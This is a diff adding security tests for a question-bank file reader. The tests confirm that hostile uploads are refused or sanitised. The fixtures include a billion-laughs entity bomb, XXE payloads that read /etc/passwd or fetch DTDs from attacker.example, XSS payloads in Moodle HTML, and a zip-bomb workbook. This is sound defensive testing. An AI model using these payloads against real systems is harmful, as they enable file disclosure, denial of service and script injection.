@@ -1,0 +1,158 @@
+"""Hostile and damaged files end as clear, located problems: never an exception, a hang or a leak."""
+
+import io
+import os
+import random
+import zipfile
+
+import pytest
+from qb_samples import single_question
+
+from question_bank.formats import FORMATS, MAX_FILE_BYTES, read, write
+from question_bank.formats.xlsx import MAX_UNCOMPRESSED_BYTES
+
+QUESTION = (
+    '<question type="multichoice"><name><text>Q</text></name><questiontext><text>{stem}</text></questiontext>'
+    '<answer fraction="100"><text>a</text></answer><answer fraction="0"><text>b</text></answer></question>'
+)
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE quiz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<quiz>""" + QUESTION.format(stem="&lol9;").encode() + b"</quiz>"
+
+XML_FORBIDDEN_VI = (
+    "tệp XML chứa khai báo DTD, thực thể (entity) hoặc tham chiếu ra ngoài; vì lý do an toàn, "
+    "các khai báo này không được phép"
+)
+
+
+def only_problem(result):
+    assert not result.ok and result.questions == []
+    [problem] = result.problems
+    return problem
+
+
+def test_entity_expansion_billion_laughs_is_refused():
+    problem = only_problem(read(BILLION_LAUGHS, "bomb.xml"))
+    assert problem.code == "xml_forbidden" and problem.location.line == 2
+    assert problem.describe() == f"bomb.xml, dòng 2: {XML_FORBIDDEN_VI}"
+    assert "DTD" in problem.message("en")
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE quiz [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>',
+        '<!DOCTYPE quiz [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>',
+        '<!DOCTYPE quiz SYSTEM "http://attacker.example/quiz.dtd">',
+        "<!DOCTYPE quiz>",
+    ],
+)
+def test_external_entities_and_any_dtd_are_refused_without_being_fetched(doctype):
+    data = f'<?xml version="1.0"?>\n{doctype}\n<quiz>{QUESTION.format(stem="&xxe;")}</quiz>'.encode()
+    problem = only_problem(read(data, "xxe.xml"))
+    assert problem.code == "xml_forbidden" and problem.location.line == 2
+    assert "root:" not in repr(problem)
+
+
+def test_scripts_and_event_handlers_in_moodle_html_are_stripped():
+    stem = (
+        "<![CDATA[<p onclick=\"steal()\">Thủ đô Lào?<script>alert(1)</script><iframe src=\"https://evil.example\"></iframe>"
+        "<img src=\"x.png\" onerror=\"alert(2)\"><img src=\"javascript:alert(3)\"><a href=\"javascript:alert(4)\">link</a>"
+        "<style>body{display:none}</style></p>]]>"
+    )
+    data = f'<?xml version="1.0"?>\n<quiz>{QUESTION.format(stem=stem)}</quiz>'.encode()
+    [question] = read(data, "xss.xml").question_list
+    assert question.stem == {"vi": '<p>Thủ đô Lào?<img src="x.png"><img>link</p>'}
+
+
+def test_a_zip_bomb_workbook_is_refused_before_it_is_inflated():
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/workbook.xml", "<workbook/>")
+        archive.writestr("xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * (MAX_UNCOMPRESSED_BYTES + 1) + b"</worksheet>")
+    data = buffer.getvalue()
+    assert len(data) < 1024 * 1024  # a small file on the wire
+    problem = only_problem(read(data, "bomb.xlsx"))
+    assert problem.code == "xlsx_too_large"
+    assert problem.message() == (
+        "tệp Excel khi giải nén quá lớn (100.1 MB; tối đa 100 MB): tệp bị hỏng hoặc không an toàn («zip bomb»)"
+    )
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"PK\x03\x04" + os.urandom(2048),  # looks like a zip, is not
+        b"\x00\x01\x02binary" * 300,  # not a zip at all, named .xlsx
+        None,  # a zip holding a Word document
+    ],
+)
+def test_files_that_are_not_workbooks_are_refused_with_advice(data):
+    if data is None:
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(buffer, "w") as archive:
+            archive.writestr("word/document.xml", "<document/>")
+        data = buffer.getvalue()
+    problem = only_problem(read(data, "cau-hoi.xlsx", format="xlsx"))
+    assert problem.code == "not_xlsx"
+    assert problem.describe() == (
+        "cau-hoi.xlsx: tệp không phải là tệp Excel (.xlsx) hợp lệ; "
+        "hãy mở tệp bằng Excel và lưu lại dưới dạng Excel Workbook (.xlsx)"
+    )
+
+
+def test_a_ten_megabyte_file_of_junk_is_a_clear_problem():
+    data = random.Random(7).randbytes(10_000_000)  # 10 MB, just under the limit
+    problem = only_problem(read(data, "du-lieu.xlsx"))
+    assert problem.code == "not_xlsx"
+
+
+@pytest.mark.parametrize("fmt", [None, *FORMATS])
+def test_files_over_the_size_limit_are_refused_before_reading(fmt):
+    data = write([single_question()], "gift") + b" " * MAX_FILE_BYTES
+    problem = only_problem(read(data, "lon.gift", format=fmt))
+    assert problem.code == "file_too_large"
+    assert problem.describe() == "lon.gift: tệp quá lớn (10.1 MB; tối đa 10 MB); hãy chia câu hỏi thành nhiều tệp nhỏ hơn"
+    assert read(data, "lon.gift", max_bytes=None).ok  # the limit can be lifted by the caller
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_random_bytes_never_raise_in_any_reader(fmt):
+    rng = random.Random(fmt)
+    for size in (1, 7, 100, 5000):
+        result = read(rng.randbytes(size), f"rac.{fmt}", format=fmt)
+        assert not result.ok and result.questions == []
+        for problem in result.problems:
+            assert problem.describe() and problem.describe("en")
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv", "moodle-xml", "gift", "aiken"])
+def test_truncated_files_give_problems_not_exceptions(fmt):
+    data = write([single_question(), single_question(key="hist-002", name="Khác")], fmt if fmt != "aiken" else "aiken")
+    for cut in (len(data) // 3, len(data) // 2, len(data) - 5):
+        result = read(data[:cut], f"cut.{fmt}", format=fmt)
+        for problem in result.problems:
+            assert problem.describe()
+
+
+def test_a_reader_bug_becomes_a_problem(monkeypatch):
+    from question_bank import formats
+
+    def broken(*args, **kwargs):
+        raise KeyError("boom")
+
+    monkeypatch.setitem(formats._READERS, "gift", broken)
+    problem = only_problem(read(b"::Q:: x {=a ~b}", "a.gift"))
+    assert problem.code == "syntax" and "KeyError" in problem.message()
